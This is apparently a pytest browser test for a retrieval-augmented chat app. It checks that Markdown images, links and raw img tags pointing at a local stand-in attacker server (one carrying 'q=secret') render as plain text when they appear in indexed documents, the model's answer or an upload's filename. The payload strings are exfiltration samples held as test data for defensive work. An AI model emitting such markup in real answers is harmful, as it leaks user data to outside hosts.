"""In a real browser (Debian's Chromium), Markdown images and links in a document or in the
model's answer render as text: no request leaves for the attacker's address."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.browser import upload
from tests.helpers import stop_group, wait_up

ROOT = Path(__file__).resolve().parents[2]
CHROMIUM = "/usr/bin/chromium"
pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian's chromium is missing")


class Attacker(BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802
        Attacker.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, *args: object) -> None: ...


def test_no_request_leaves_for_markdown_in_documents_or_answers(tmp_path: Path) -> None:
    pytest.importorskip("playwright")
    from playwright.sync_api import expect, sync_playwright

    from rag.generation.server import free_port

    attacker = ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    evil = f"http://127.0.0.1:{attacker.server_address[1]}"
    payload = (f"![leak]({evil}/img?q=secret) [click here]({evil}/link) <img src=\"{evil}/raw\"> "
               f"{evil}/auto")
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "cats.md").write_text(f"# Cats ![t]({evil}/title)\n\nCats purr loudly. {payload}\n")
    port = free_port()
    env = dict(os.environ, RAG_TEST_DOCS=str(docs), PYTHONPATH=str(ROOT),
               RAG_TEST_ANSWER=f"Cats purr loudly [1]. {payload} [1].")
    proc = subprocess.Popen(
        [sys.executable, "-m", "streamlit", "run", str(ROOT / "tests" / "ui_fake_app.py"),
         "--server.port", str(port), "--server.headless", "true", "--server.address",
         "127.0.0.1", "--browser.gatherUsageStats", "false"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True, env=env)
    requests: list[str] = []
    try:
        url = f"http://127.0.0.1:{port}"
        wait_up(f"{url}/_stcore/health", proc, "streamlit")
        with sync_playwright() as pw:
            browser = pw.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
            page = browser.new_page()
            page.on("request", lambda r: requests.append(r.url))
            page.goto(url)
            box = page.get_by_test_id("stChatInputTextArea")
            expect(box).to_be_enabled(timeout=120_000)
            box.fill("What do cats do?")
            box.press("Enter")
            expect(page.locator("a.cite").first).to_be_visible(timeout=120_000)
            answer = page.get_by_test_id("stChatMessage").nth(1).inner_text()
            page.locator("a.cite").first.click()
            expect(page.locator(".rag-passage").first).to_be_visible(timeout=30_000)
            page.wait_for_timeout(2000)
            passage = page.locator(".rag-passage").first.inner_text()
            # An upload whose name is Markdown: refused (empty), listed in the job report.
            page.get_by_text("Documents", exact=True).click()
            name = f"![t]({evil}/track.png).md"
            upload(page, [{"name": name, "mimeType": "text/markdown", "buffer": b""}], [name])
            page.get_by_role("button", name="Upload and index").click()
            expect(page.get_by_test_id("stTable")).to_be_visible(timeout=60_000)
            page.wait_for_timeout(2000)
            report = page.get_by_test_id("stTable").inner_text()
            browser.close()
    finally:
        stop_group(proc, signal.SIGTERM)
        attacker.shutdown()
    leaked = [r for r in requests if r.startswith(evil)]
    assert not leaked and not Attacker.hits, (leaked, Attacker.hits)
    assert "![leak](" in answer and "[click here](" in passage  # shown as the text it is
    assert "track.png" in report and "empty" in report
